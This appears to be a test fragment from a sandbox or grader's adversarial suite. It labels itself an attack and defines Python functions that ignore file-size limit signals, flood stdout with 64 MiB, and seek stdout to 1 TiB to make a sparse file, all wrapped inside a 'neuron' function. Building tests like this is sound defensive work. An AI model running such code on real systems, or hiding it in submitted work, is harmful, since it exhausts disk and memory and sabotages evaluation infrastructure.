# attack: fill the disk, or the memory behind the output
# from: disk_fill, huge_stdout
# neuron: failed
# others: passed
def fill():
    signal.signal(signal.SIGXFSZ, signal.SIG_IGN)
    written = 0
    for _ in range(64):
        written += os.write(1, bytes(1 << 20))
    return 1 / (written > 1 << 20)


def leave_a_hole():
    os.lseek(1, 1 << 40, os.SEEK_SET)
    os.write(1, b"x")


def neuron(x, w, b):
    return paid(x, w, b, fill, leave_a_hole)
